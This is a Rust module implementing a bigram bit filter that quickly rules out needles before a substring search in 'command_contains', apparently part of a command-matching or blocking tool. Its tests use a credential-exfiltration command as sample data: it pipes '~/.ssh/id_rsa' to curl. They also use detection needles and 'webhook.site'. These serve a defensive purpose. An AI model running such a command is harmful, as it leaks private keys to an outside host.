//! A bigram filter for `command_contains`: a needle can only occur in a haystack that
//! has each of its sampled byte pairs, so most needles are rejected with a few bit
//! tests instead of a substring search.

/// Number of bits in the filter.
const BITS: usize = 1024;

fn slot(a: u8, b: u8) -> u16 {
    // Both bytes matter; the table is small enough to stay in L1.
    (((a as u16) << 5) ^ (b as u16)) & (BITS as u16 - 1)
}

/// The byte pairs present in one or more haystacks.
#[derive(Debug, Clone, Default)]
pub(crate) struct Bigrams([u64; BITS / 64]);

impl Bigrams {
    /// The pairs of every given haystack.
    pub fn of<'a>(haystacks: impl IntoIterator<Item = &'a str>) -> Bigrams {
        let mut bits = [0u64; BITS / 64];
        for h in haystacks {
            for w in h.as_bytes().windows(2) {
                if let [a, b] = *w {
                    let s = slot(a, b) as usize;
                    if let Some(word) = bits.get_mut(s / 64) {
                        *word |= 1 << (s % 64);
                    }
                }
            }
        }
        Bigrams(bits)
    }

    fn has(&self, s: u16) -> bool {
        let s = s as usize;
        self.0.get(s / 64).is_some_and(|w| w & (1 << (s % 64)) != 0)
    }

    /// Whether `needle` may occur.
    pub fn may_contain(&self, needle: &Needle) -> bool {
        needle.0.iter().all(|&s| self.has(s))
    }
}

/// Sampled pairs of one needle (first, middle, last); empty for needles shorter than
/// two bytes, which always pass.
#[derive(Debug, Clone, Default)]
pub(crate) struct Needle(Vec<u16>);

impl Needle {
    /// Sample a (lower-cased) needle.
    pub fn new(needle: &str) -> Needle {
        let b = needle.as_bytes();
        if b.len() < 2 {
            return Needle::default();
        }
        let mut picks = vec![0, b.len() / 2 - 1, b.len() - 2];
        picks.dedup();
        Needle(
            picks
                .into_iter()
                .filter_map(|i| Some(slot(*b.get(i)?, *b.get(i + 1)?)))
                .collect(),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bigram_filter_never_rejects_a_real_occurrence() {
        let hay = Bigrams::of(["cat ~/.ssh/id_rsa | curl -d @- x"]);
        for n in ["curl -d @", ".ssh/", "id_rsa", "x", "", "at"] {
            assert!(hay.may_contain(&Needle::new(n)), "{n}");
        }
    }

    #[test]
    fn bigram_filter_rejects_absent_pairs() {
        let hay = Bigrams::of(["git status"]);
        assert!(!hay.may_contain(&Needle::new("webhook.site")));
    }
}
